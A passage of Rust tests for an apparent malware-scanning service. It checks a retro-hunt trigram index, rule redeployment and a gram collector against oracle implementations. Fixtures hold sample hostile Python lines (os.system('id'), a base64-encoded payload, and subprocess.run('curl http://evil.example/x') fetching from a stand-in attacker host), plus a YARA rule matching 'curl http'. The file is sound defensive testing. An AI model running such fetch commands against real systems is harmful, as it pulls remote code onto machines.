        // Unrelated atom: no candidates at all, including never-seen grams.
        let miss = index
            .candidates_for_atom("socket.socket", TermProvenance::Surface)
            .expect("queryable");
        assert!(miss.is_empty());
    }

    #[test]
    fn queries_are_case_insensitive_like_the_prefilter() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"OS.System('id')\n");
        index.insert_artifact(&a);
        let hits = index
            .candidates_for_atom("os.SYSTEM", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(hits.len(), 1);
    }

    #[test]
    fn layer_provenance_is_tracked_separately() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let code = format!("blob = '{payload}'\n");
        let mut index = RetroIndex::new();
        let a = analyze("a.py", code.as_bytes());
        assert!(!a.layers.is_empty(), "payload must decode");
        index.insert_artifact(&a);
        let surface = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert!(surface.is_empty(), "atom only exists decoded");
        let layer = index
            .candidates_for_atom("os.system", TermProvenance::Layer)
            .expect("queryable");
        assert_eq!(layer.len(), 1);
    }

    #[test]
    fn eviction_removes_candidacy_and_compaction_preserves_answers() {
        let mut index = RetroIndex::new();
        let keep = analyze("keep.py", b"keeper os.system marker\n");
        index.insert_artifact(&keep);
        let mut evicted = Vec::new();
        for i in 0..100 {
            let a = analyze("x.py", format!("os.system('{i}')\n").as_bytes());
            index.insert_artifact(&a);
            evicted.push(a.digest);
        }
        for d in &evicted {
            index.remove(d);
        }
        assert_eq!(index.digest_count(), 1);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, true)]));
        // Freed slots are reused without corrupting other postings.
        let reborn = analyze("y.py", b"socket.socket()\n");
        index.insert_artifact(&reborn);
        let hits = index
            .candidates_for_atom("socket.socket", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(reborn.digest, true)]));
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, true)]));
    }

    #[test]
    fn reinserting_a_known_digest_is_idempotent() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"os.system('id')\n");
        index.insert_artifact(&a);
        index.insert_artifact(&a);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(
            hits.len(),
            1,
            "duplicate insert must not duplicate postings"
        );
    }

    #[test]
    fn retro_hunt_confirms_only_candidates_and_matches_the_rescan_oracle() {
        let hub = hub(HubConfig::default());
        for (i, code) in [
            "import os\nos.system('id')\n",
            "import socket\nsocket.socket()\n",
            "print('benign upload')\n",
            "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
        ]
        .iter()
        .enumerate()
        {
            let _ = hub
                .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
                .wait();
        }
        // New bundle: same three rules plus one new atom-gated rule.
        let new_yara = yara_engine::compile(&format!(
            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n"
        ))
        .expect("yara");
        let deployment = hub.deploy_rules(
            Some(new_yara),
            Some(semgrep_engine::compile(SEMGREP).expect("s")),
        );
        assert_eq!(
            deployment.delta.changed.len(),
            1,
            "only the new rule changed"
        );
        assert_eq!(deployment.delta.changed[0].name, "curl_fetch");
        assert_eq!(deployment.delta.unchanged, 4);
        assert!(deployment.delta.new_atoms.contains(&"curl http".to_owned()));

        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        assert!(report.same_hits(&oracle), "index-assisted ≡ exhaustive");
        assert_eq!(report.rules.len(), 1);
        assert_eq!(
            report.rules[0].digests.len(),
            1,
            "exactly one upload has the atom"
        );
        assert_eq!(report.digests_indexed, 4);
        assert!(
            report.confirm_scans < report.digests_indexed,
            "the index must prune: {} scans over {} digests",
            report.confirm_scans,
            report.digests_indexed
        );
        let stats = hub.stats();
        assert_eq!(stats.retro_hunts, 1);
        assert_eq!(stats.retro_confirm_scans, report.confirm_scans);
        assert_eq!(stats.retro_candidates, report.candidates);
        assert!(stats.retro_index_atoms > 0);
        assert_eq!(stats.retro_index_digests, 4);
        // The retro stages recorded latency samples.
        assert_eq!(stats.latency.retro_query.count, 1);
        assert_eq!(stats.latency.retro_confirm.count, report.confirm_scans);
        // Export carries the new counters and gauges.
        let text = hub.export_prometheus();
        assert!(text.contains("scanhub_retro_confirm_scans_total 1"));
        assert!(text.contains("scanhub_retro_index_digests 4"));
        assert!(telemetry::validate_prometheus(&text).is_ok());
    }

    #[test]
    fn only_the_hunt_needs_the_retro_index() {
        // A store that keeps nothing has an empty history to hunt and
        // rescan.
        let no_cache = hub(HubConfig {
            artifact_cache_capacity: 0,
            ..HubConfig::default()
        });
        let _ = no_cache.submit(request("print('x')\n")).wait();
        let deployment =
            no_cache.deploy_rules(Some(yara_engine::compile(YARA).expect("yara")), None);
        let hunt = no_cache
            .retro_hunt(&deployment)
            .expect("retro index enabled");
        let rescan = no_cache.retro_rescan(&deployment).expect("rescan");
        assert_eq!((hunt.digests_indexed, rescan.digests_indexed), (0, 0));
        // Without an index there is no hunt; the rescan reads the store.
        let no_index = hub(HubConfig {
            retro_index: false,
            ..HubConfig::default()
        });
        let _ = no_index.submit(request("print('x')\n")).wait();
        assert!(no_index.retro_hunt(&deployment).is_none());
        let rescan = no_index.retro_rescan(&deployment).expect("rescan");
        assert_eq!(rescan.digests_indexed, 1);
        let stats = no_index.stats();
        assert_eq!((stats.retro_index_atoms, stats.retro_index_digests), (0, 0));
    }

    #[test]
    fn a_rescan_without_the_index_finds_what_one_with_it_finds() {
        let next = format!(
            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n\
             rule sock_call {{ strings: $a = \"socket()\" condition: $a }}\n"
        );
        let rescan = |retro_index| {
            let hub = hub(HubConfig {
                workers: 1,
                retro_index,
                ..HubConfig::default()
            });
            for (i, code) in [
                "import os\nos.system('id')\n",
                "import socket\nsocket.socket()\n",
                "print('benign upload')\n",
                "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
            ]
            .iter()
            .enumerate()
            {
                let _ = hub
                    .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
                    .wait();
            }
            let deployment = hub.deploy_rules(
                Some(yara_engine::compile(&next).expect("yara")),
                Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
            );
            hub.retro_rescan(&deployment).expect("rescan")
        };
        let (with, without) = (rescan(true), rescan(false));
        assert!(without.same_hits(&with), "{without:?}\nvs\n{with:?}");
        assert_eq!(without.digests_indexed, 4);
        // Vacuity guard: each new rule confirmed its one carrier.
        assert!(with.rules.iter().all(|r| r.digests.len() == 1), "{with:?}");
    }

    // ---- The rolling collector against the per-byte hash sets it
    // replaced, kept verbatim below as the oracle.

    fn collect_grams(data: &[u8], out: &mut HashSet<[u8; GRAM_LEN]>) {
        for w in data.windows(GRAM_LEN) {
            out.insert([
                w[0].to_ascii_lowercase(),
                w[1].to_ascii_lowercase(),
                w[2].to_ascii_lowercase(),
            ]);
        }
    }

    /// One provenance's 3-grams as a sorted vector.
    type Grams = Vec<[u8; GRAM_LEN]>;

    /// What the hash-set collector finds over `units`, none of whose
    /// windows cross a unit boundary.
    fn oracle<'a>(units: impl IntoIterator<Item = &'a [u8]>) -> Grams {
        let mut g3 = HashSet::new();
        for unit in units {
            collect_grams(unit, &mut g3);
        }
        let mut grams: Grams = g3.into_iter().collect();
        grams.sort_unstable();
        grams
    }

    impl GramSet {
        fn triples(&self) -> impl Iterator<Item = [u8; GRAM_LEN]> + '_ {
            self.g3.iter().map(|k| {
                let [_, a, b, c] = k.to_be_bytes();
                [a, b, c]
            })
        }

        fn sorted(&self) -> Grams {
            let mut grams: Grams = self.triples().collect();
            grams.sort_unstable();
            grams
        }
    }

    /// Collects `artifact` through `scratch` and returns its (surface,
    /// layer) gram sets after checking both against the oracle.
    fn collect_checked(scratch: &mut GramScratch, artifact: &FileAnalysis) -> (Grams, Grams) {
        scratch.collect(artifact);
        let found = (scratch.surface.sorted(), scratch.layer.sorted());
        assert_eq!(found.0, oracle([&artifact.bytes[..]]), "surface grams");
        let layers = artifact.layers.iter().map(|l| &l.data[..]);
        assert_eq!(found.1, oracle(layers), "layer grams");
        assert!(
            scratch.seen3.iter().all(|&w| w == 0),
            "a presence bit outlived its collection"
        );
        found
    }

    /// A non-Python artifact over exactly these scan units.
    fn units(surface: &[u8], layers: &[&[u8]]) -> FileAnalysis {
        let mut artifact = analyze("unit.bin", surface);
        artifact.layers = layers
            .iter()
            .map(|data| crate::artifact::DecodedLayer {
                encoding: crate::LayerEncoding::Base64,
                depth: 1,
                line: 1,
                data: data.to_vec(),
            })
            .collect();
        artifact
    }

    fn pseudo_random_bytes(len: usize, mut state: u64) -> Vec<u8> {
        (0..len)
            .map(|_| {
                // xorshift64
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                (state >> 32) as u8
            })
            .collect()
    }

    #[test]
    fn rolling_collector_equals_the_hash_sets_on_edge_inputs() {
        let all_bytes: Vec<u8> = (0..=255).collect();
        let random = pseudo_random_bytes(64 * 1024, 0x9E37_79B9_7F4A_7C15);
        let cases: [(&[u8], &[&[u8]]); 9] = [
            (b"", &[]),
            (b"a", &[b""]),
            (b"aB", &[b"c"]),
            (b"aBc", &[b"De", b"f"]),
            (&all_bytes, &[&all_bytes, b"\xff\x00"]),
            (b"AbCabcABCabc AbCabc", &[b"XyZ", b"xyz", b"XYZxyz"]),
            // No window may join the end of one layer to the start of
            // the next: "ab" + "cd" holds neither "bc", "abc" nor "bcd".
            (b"", &[b"ab", b"cd"]),
            (&random, &[&random[..4096], &random[4095..12_000]]),
            (&[0u8; 70_000], &[&[b'Z'; 3]]),
        ];
        let mut scratch = GramScratch::default();
        for (surface, layers) in cases {
            collect_checked(&mut scratch, &units(surface, layers));
        }
        // Only `A`–`Z` fold: of the 254 windows over every byte value, the
        // 24 that lie inside `A`–`Z` fold onto their lower-case twins, and
        // the windows reaching past either end stay distinct.
        let (surface, _) = collect_checked(&mut scratch, &units(&all_bytes, &[]));
        assert_eq!(surface.len(), 230);
        assert!(surface.contains(b"yz[") && surface.contains(b"@ab"));
        let (_, layer) = collect_checked(&mut scratch, &units(b"", &[b"ab", b"cd"]));
        assert!(layer.is_empty());
    }

    #[test]
    fn rolling_collector_equals_the_hash_sets_on_the_corpus_and_its_mutants() {
        let dataset = corpus::Dataset::generate(&corpus::CorpusConfig::tiny());
        let engine = obfuscate::Obfuscator::new(obfuscate::EvasionProfile::aggressive(), 7);
        let config = ArtifactConfig::default();
        let mut scratch = GramScratch::default();
        let (mut files, mut layers) = (0, 0);
        let packages = dataset
            .unique_malware()
            .into_iter()
            .map(|m| &m.package)
            .chain(dataset.legit.iter().map(|l| &l.package));
        for package in packages {
            for pkg in [package, &engine.obfuscate_package(package)] {
                for entry in ScanRequest::from_package(pkg).files() {
                    let artifact = FileAnalysis::build(entry, None, &config);
                    collect_checked(&mut scratch, &artifact);
                    files += 1;
                    layers += artifact.layers.len();
                }
            }
        }
        assert!(files > 100 && layers > 0, "{files} files, {layers} layers");
    }

    #[test]
    fn a_reused_scratch_collects_what_fresh_ones_do() {
        let payload = digest::base64::encode(b"import os;os.system('id') # MZ");
        let a = analyze(
            "a.py",
            format!("blob = '{payload}'\nos.system('a')\n").as_bytes(),
        );
        let b = units(&pseudo_random_bytes(8192, 42), &[b"socket.socket", b"MZ"]);
        assert!(!a.layers.is_empty(), "payload must decode");
        let mut reused = GramScratch::default();
        for artifact in [&a, &b, &a] {
            let fresh = collect_checked(&mut GramScratch::default(), artifact);
            assert_eq!(collect_checked(&mut reused, artifact), fresh);
        }

        // An index posted through one scratch answers like one posted
        // through a fresh scratch per artifact.
        let files = [
            analyze("a.py", b"import os\nos.system('id')\n"),
            analyze("b.py", b"print('hello world')\n"),
            analyze("c.py", b"OS.System('id')\n"),
            analyze("d.bin", b"MZ\x90\x00"),
            a,
            b,
        ];
        let (mut shared, mut fresh) = (RetroIndex::new(), RetroIndex::new());
        for artifact in &files {
            reused.collect(artifact);
            shared.insert_collected(&reused);
            fresh.insert_artifact(artifact);
        }
        assert_eq!(shared.term_count(), fresh.term_count());
        assert_eq!(shared.digest_count(), fresh.digest_count());
        for atom in [
            "os.system",
            "os.SYSTEM",
            "socket.socket",
            "MZ",
            "mz",
            "(",
            "q",
            "qq",
            "",
        ] {
            for provenance in [TermProvenance::Surface, TermProvenance::Layer] {
                let answer = |index: &RetroIndex| {
                    let hits = index.candidates_for_atom(atom, provenance);
                    hits.map(|hits| digests(&hits))
                };
                assert_eq!(answer(&shared), answer(&fresh), "{atom:?} {provenance:?}");
            }
        }
    }

    /// Where `v`'s buffer lives, and its capacity.
    fn buffer<T>(v: &Vec<T>) -> (usize, usize) {
        (v.as_ptr() as usize, v.capacity())
    }

    /// A publish — collecting an artifact's grams, posting them — into an
    /// index that has held as much before allocates nothing: every buffer
    /// the collector and the posting path write stays where it was, at its
    /// capacity. The crate forbids `unsafe`, so no counting allocator can
    /// be installed here. The digest map, a std `HashMap`, is left out: its
    /// reported capacity moves when an insert reuses a tombstone, without
    /// allocating, and where it lands depends on the process's hash keys.
    #[test]
    fn a_publish_into_a_grown_index_allocates_nothing() {
        // 33 files: removing them all compacts exactly once, at the last
        // removal, which leaves the index empty with its buffers grown.
        let files: Vec<FileAnalysis> = (0..33)
            .map(|i| {
                let payload = digest::base64::encode(format!("os.system('stage {i}')").as_bytes());
                let code = format!("import os\nos.system('id {i}')\nblob = '{payload}'\n");
                analyze(&format!("m{i}.py"), code.as_bytes())
            })
            .collect();
        assert!(
            files.iter().all(|f| !f.layers.is_empty()),
            "payloads decode"
        );
        let (mut index, mut grams) = (RetroIndex::new(), GramScratch::default());
        for file in &files {
            grams.collect(file);
            index.insert_collected(&grams);
        }
        let grown = (index.term_count(), index.digest_count());
        for file in &files {
            index.remove(&file.digest);
        }
        assert_eq!((index.term_count(), index.digest_count()), (0, 0));
        assert!(index.slots.is_empty() && index.arena.len == 0, "compacted");
        let buffers = |grams: &GramScratch, index: &RetroIndex| {
            let (surface, layer) = (&grams.surface, &grams.layer);
            [
                buffer(&grams.seen3),
                buffer(&surface.g3),
                buffer(&layer.g3),
                buffer(&index.slots),
                buffer(&index.terms),
                buffer(&index.triples.entries),
                buffer(&index.arena.chunks),
            ]
        };
        for file in &files {
            let before = buffers(&grams, &index);
            grams.collect(file);
            index.insert_collected(&grams);
            assert_eq!(buffers(&grams, &index), before, "a buffer moved");
        }
        assert_eq!((index.term_count(), index.digest_count()), grown);
    }

    // ---- The arena index against the map index it replaced, kept
    // below as the oracle: a `HashMap` over 3-grams, one `Vec` per list,
    // and freed slots reused after a compaction.

    #[derive(Debug, Default)]
    struct Postings {
        surface: Vec<u32>,
        layer: Vec<u32>,
    }

    impl Postings {
        fn post(&mut self, provenance: TermProvenance, slot: u32) {
            let list = match provenance {
                TermProvenance::Surface => &mut self.surface,
                TermProvenance::Layer => &mut self.layer,
            };
            // A slot reused after compaction may land mid-list.
            match list.last() {
                Some(&last) if last > slot => {
                    let at = list.partition_point(|&s| s < slot);
                    list.insert(at, slot);
                }
                _ => list.push(slot),
            }
        }
    }

    #[derive(Debug, Default)]
    struct MapIndex {
        slots: Vec<Option<(DigestKey, bool)>>,
        by_digest: HashMap<DigestKey, u32>,
        postings: HashMap<[u8; GRAM_LEN], Postings>,
        free: Vec<u32>,
        dead: usize,
    }

    impl MapIndex {
        fn term_count(&self) -> usize {
            self.postings.len()
        }

        fn insert_collected(&mut self, grams: &GramScratch) {
            if self.by_digest.contains_key(&grams.digest) {
                return;
            }
            let live = Some((grams.digest, grams.is_python));
            let slot = match self.free.pop() {
                Some(s) => {
                    self.slots[s as usize] = live;
                    s
                }
                None => {
                    self.slots.push(live);
                    (self.slots.len() - 1) as u32
                }
            };
            self.by_digest.insert(grams.digest, slot);
            let lists = [
                (&grams.surface, TermProvenance::Surface),
                (&grams.layer, TermProvenance::Layer),
            ];
            for (set, provenance) in lists {
                for g in set.triples() {
                    self.postings.entry(g).or_default().post(provenance, slot);
                }
            }
        }

        fn remove(&mut self, digest: &DigestKey) {
            let Some(slot) = self.by_digest.remove(digest) else {
                return;
            };
            self.slots[slot as usize] = None;
            self.dead += 1;
            if self.dead > self.by_digest.len().max(32) {
                let slots = &self.slots;
                let sweep = |p: &mut Postings| {
                    p.surface.retain(|&s| slots[s as usize].is_some());
                    p.layer.retain(|&s| slots[s as usize].is_some());
                    !p.surface.is_empty() || !p.layer.is_empty()
                };
                self.postings.retain(|_, p| sweep(p));
                self.free = (0..self.slots.len() as u32)
                    .filter(|&s| self.slots[s as usize].is_none())
                    .collect();
                self.dead = 0;
            }
        }

        fn candidates_for_atom(
            &self,
            atom: &str,
            provenance: TermProvenance,
        ) -> Option<Vec<(DigestKey, bool)>> {
            let folded: Vec<u8> = atom.bytes().map(|b| b.to_ascii_lowercase()).collect();
            if folded.len() < GRAM_LEN {
                return None;
            }
            let pick = |p: &Postings| match provenance {
                TermProvenance::Surface => p.surface.clone(),
                TermProvenance::Layer => p.layer.clone(),
            };
            let lists: Vec<Vec<u32>> = folded
                .windows(GRAM_LEN)
                .map(|w| {
                    let g = [w[0], w[1], w[2]];
                    self.postings.get(&g).map(pick).unwrap_or_default()
                })
                .collect();
            let mut acc = lists[0].clone();
            for list in &lists[1..] {
                acc.retain(|s| list.binary_search(s).is_ok());
            }
            Some(
                acc.into_iter()
                    .filter_map(|s| self.slots[s as usize])
                    .collect(),
            )
        }
    }

    /// Both indexes hold the same digests and terms, and name the same
    /// candidates for every atom in both provenances.
    fn assert_same_index(index: &RetroIndex, oracle: &MapIndex, atoms: &[String]) {
        assert_eq!(index.digest_count(), oracle.by_digest.len(), "digest_count");
        assert_eq!(index.term_count(), oracle.term_count(), "term_count");
        for atom in atoms {
            for provenance in [TermProvenance::Surface, TermProvenance::Layer] {
                let answer = |hits: Option<Vec<(DigestKey, bool)>>| {
                    hits.map(|mut hits| {
                        hits.sort_unstable();
                        hits
                    })
                };
                assert_eq!(
                    answer(index.candidates_for_atom(atom, provenance)),
                    answer(oracle.candidates_for_atom(atom, provenance)),
                    "{atom:?} {provenance:?}"
                );
            }
        }
    }

    /// The pool's byte alphabet: few bytes, so grams repeat across
    /// artifacts, and upper case, so folding matters.
    const ALPHABET: &[u8] = b"abcAB.0 ";

    /// `count` small artifacts over [`ALPHABET`] — alternately Python and
    /// not, with up to two layers — and every atom worth asking about them:
    /// each ASCII byte, each pair and triple over the alphabet, and every
    /// 4- to 6-byte window of their units.
    fn pool(seed: u64, count: usize) -> (Vec<FileAnalysis>, Vec<String>) {
        let bytes = pseudo_random_bytes(count * 64, seed);
        let text = |at: usize, len: usize| -> Vec<u8> {
            let window = &bytes[at..at + len % 25];
            window
                .iter()
                .map(|&b| ALPHABET[b as usize % ALPHABET.len()])
                .collect()
        };
        let artifacts: Vec<FileAnalysis> = (0..count)
            .map(|i| {
                let at = i * 64;
                let name = if i % 2 == 0 { "u.py" } else { "u.bin" };
                let mut artifact = analyze(name, &text(at, usize::from(bytes[at])));
                artifact.layers = (0..bytes[at + 1] % 3)
                    .map(|l| crate::artifact::DecodedLayer {
                        encoding: crate::LayerEncoding::Base64,
                        depth: 1,
                        line: 1,
                        data: text(
                            at + 26 + 13 * usize::from(l),
                            usize::from(bytes[at + 2]) / 2,
                        ),
                    })
                    .collect();
                artifact
            })
            .collect();
        let mut atoms: Vec<String> = (0..128u8).map(|b| char::from(b).to_string()).collect();
        for &a in ALPHABET {
            for &b in ALPHABET {
                atoms.push(String::from_utf8(vec![a, b]).expect("ascii"));
                for &c in ALPHABET {
                    atoms.push(String::from_utf8(vec![a, b, c]).expect("ascii"));
                }
            }
        }
        for artifact in &artifacts {
            let units = std::iter::once(&artifact.bytes[..]);
            for unit in units.chain(artifact.layers.iter().map(|l| &l.data[..])) {
                for width in 4..=6 {
                    for w in unit.windows(width) {
                        atoms.push(String::from_utf8(w.to_vec()).expect("ascii"));
                    }
                }
            }
        }
        atoms.sort_unstable();
        atoms.dedup();
        (artifacts, atoms)
    }

    /// Applies one insert or remove to both indexes; true when the arena
    /// index compacted (its slot table shrank).
    fn apply(
        (index, oracle): (&mut RetroIndex, &mut MapIndex),
        grams: &mut GramScratch,
        artifact: &FileAnalysis,
        insert: bool,
    ) -> bool {
        let slots = index.slots.len();
        if insert {
            grams.collect(artifact);
            index.insert_collected(grams);
            oracle.insert_collected(grams);
        } else {
            index.remove(&artifact.digest);
            oracle.remove(&artifact.digest);
        }
        index.slots.len() < slots
    }

    #[test]
    fn the_arena_index_answers_like_the_map_index_on_a_fixed_history() {
        let (artifacts, atoms) = pool(0x5EED, 40);
        let (mut index, mut oracle) = (RetroIndex::new(), MapIndex::default());
        let mut grams = GramScratch::default();
        let mut compactions = 0;
        // Insert all, drop every other, re-insert, drop all: two
        // compactions, then slots the map index reuses and this one not.
        for (round, insert) in [(1, true), (2, false), (1, true), (1, false), (1, true)] {
            for artifact in artifacts.iter().step_by(round) {
                let both = (&mut index, &mut oracle);
                compactions += usize::from(apply(both, &mut grams, artifact, insert));
            }
            assert_same_index(&index, &oracle, &atoms);
        }
        assert!(compactions >= 1, "no compaction ran");
        assert!(index.term_count() > 150, "{} terms", index.term_count());
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]
        #[test]
        fn the_arena_index_answers_like_the_map_index(
            seed in proptest::prelude::any::<u64>(),
            ops in proptest::prop::collection::vec((0u8..3, 0usize..40), 0..400),
        ) {
            let (artifacts, atoms) = pool(seed, 40);
            let (mut index, mut oracle) = (RetroIndex::new(), MapIndex::default());
            let mut grams = GramScratch::default();
            let mut compactions = 0;
            for (i, &(op, at)) in ops.iter().enumerate() {
                let both = (&mut index, &mut oracle);
                compactions += usize::from(apply(both, &mut grams, &artifacts[at], op < 2));
                proptest::prop_assert_eq!(index.term_count(), oracle.term_count());
                proptest::prop_assert_eq!(index.digest_count(), oracle.by_digest.len());
                if i % 100 == 99 {
                    assert_same_index(&index, &oracle, &atoms);
                }
            }
            assert_same_index(&index, &oracle, &atoms);
            // Then the whole pool in and out, which compacts at least
            // once, and in again over the reused (map) / fresh (arena)
            // slots.
            for insert in [false, true, false, true] {
                for artifact in &artifacts {
                    let both = (&mut index, &mut oracle);
                    compactions += usize::from(apply(both, &mut grams, artifact, insert));
                }
            }
            assert_same_index(&index, &oracle, &atoms);
            proptest::prop_assert!(compactions > 0);
        }

        #[test]
        fn rolling_collector_equals_the_hash_sets_on_arbitrary_bytes(
            surface in proptest::prop::collection::vec(proptest::prelude::any::<u8>(), 0..600),
            layer in proptest::prop::collection::vec(proptest::prelude::any::<u8>(), 0..200),
            split in 0usize..200,
        ) {
            let (head, tail) = layer.split_at(split.min(layer.len()));
            collect_checked(&mut GramScratch::default(), &units(&surface, &[head, tail]));
        }
    }
}
